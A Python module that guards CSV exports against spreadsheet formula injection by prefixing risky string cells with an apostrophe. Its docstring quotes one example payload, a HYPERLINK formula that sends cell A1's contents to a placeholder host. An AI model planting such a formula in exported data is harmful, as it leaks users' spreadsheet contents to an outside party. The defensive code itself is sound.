"""CSV cells that a spreadsheet would run as formulas are defused (CSV or formula injection).

Excel, LibreOffice and Google Sheets evaluate a cell that begins with ``=``, ``+``, ``-`` or ``@``
(some also after a tab or carriage return) as a formula: an image file named
``=HYPERLINK("http://x/?"&A1)`` becomes a live link when ``ranked.csv`` is opened. Such string
cells get the usual guard, a leading ``'``, which spreadsheets show as text and do not evaluate
(OWASP's advice). Numbers are left alone (a negative score is data, not a formula), and so are
strings that are plain numbers. Parquet files keep every value as it is: no program evaluates them.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pandas is imported by the callers; `import normprobe` stays light
    import pandas as pd

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def defuse(cell: object) -> object:
    """``cell`` with a leading ``'`` if it is a string a spreadsheet would evaluate, else unchanged."""
    if isinstance(cell, str) and cell.startswith(_TRIGGERS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def spreadsheet_safe(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose string cells cannot run as spreadsheet formulas (for ``to_csv``)."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    text = [c for c in table.columns if is_object_dtype(table[c].dtype) or is_string_dtype(table[c].dtype)]
    safe = table.copy()
    for column in text:
        safe[column] = table[column].map(defuse)
    return safe
